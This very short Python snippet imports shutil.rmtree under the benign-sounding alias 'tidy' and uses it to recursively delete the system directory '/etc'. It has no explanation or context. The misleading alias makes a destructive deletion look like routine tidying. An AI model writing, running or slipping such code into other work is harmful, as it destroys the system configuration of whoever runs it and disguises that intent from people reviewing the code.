from shutil import rmtree as tidy

tidy("/etc")
